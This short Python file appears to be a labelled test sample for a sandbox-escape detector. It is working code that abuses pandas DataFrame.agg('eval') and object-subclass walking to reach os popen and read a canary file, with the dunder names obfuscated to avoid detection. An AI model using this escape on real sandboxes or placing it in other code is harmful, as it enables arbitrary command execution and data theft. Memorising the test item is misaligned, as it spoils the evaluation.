# class: dispatch_hidden
# technique: (run := frame.agg)('eval', ...): the called function is an assignment expression
# goal: exec
import numpy as np
import pandas as pd

u = "_" * 2
walk = "@seed." + u + "class" + u + "." + u + "base" + u + "." + u + "subclasses" + u + "()"
popen = "@w[0]." + u + "init" + u + "." + u + "globals" + u + "['popen'](@cmd).read()"
cmd = "cat {{CANARY_FILE}}"

frame = pd.DataFrame({"x": np.arange(3)})
classes = (run := frame.agg)("eval", 0, walk, local_dict={"seed": ()})
wrap_close = [c for c in classes if "wrap_close" in str(c)][0]
stolen = run("eval", 0, popen, local_dict={"w": [wrap_close], "cmd": cmd})
if not stolen:
    raise RuntimeError("the command printed nothing")
df = pd.DataFrame({"stolen": [stolen]})
